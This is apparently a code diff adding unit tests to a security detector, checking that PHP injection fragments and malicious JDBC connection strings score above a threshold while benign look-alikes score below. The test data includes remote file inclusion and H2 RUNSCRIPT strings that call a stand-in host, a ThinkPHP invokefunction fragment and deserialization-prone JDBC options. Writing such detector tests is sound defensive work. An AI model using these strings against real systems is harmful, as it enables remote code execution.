@@ -305,5 +305,24 @@ TEST(Code, LanguagesThatReachTheHost) {
     EXPECT_LT(points(text), kThreshold) << text;
 }
 
+TEST(Code, WhatProgramsOfPhpAreToldToCall) {
+  for (const std::string_view text :
+       {"shell_exec", "/index/\\think\\app/invokefunction", "\\a\\B::c()->d('system')", "mail[#post_render][]",
+        "die(md5(a_test));", "include('http://h.example/a.txt');"})
+    EXPECT_GE(points(text), kThreshold) << text;
+  for (const std::string_view text : {"phpinfo", "shell_exec is off", "C:/\\a\\b", "\\server\\share/a", "tags[#blue]",
+                                      "[#process me", "include('a.inc');", "print(md5)"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+TEST(Code, AddressesOfDatabases) {
+  for (const std::string_view text :
+       {"jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a'", "jdbc:mysql://h.example/a?autoDeserialize=true",
+        "jdbc:postgresql://h.example/a?socketFactory=org.B&socketFactoryArg=c"})
+    EXPECT_GE(points(text), kThreshold) << text;
+  for (const std::string_view text :
+       {"jdbc:mysql://h.example/a?useSSL=true", "jdbc:h2:mem:a;MODE=MySQL", "a jdbc:h2:x runscript from"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
 }  // namespace
 }  // namespace onesec::inspect
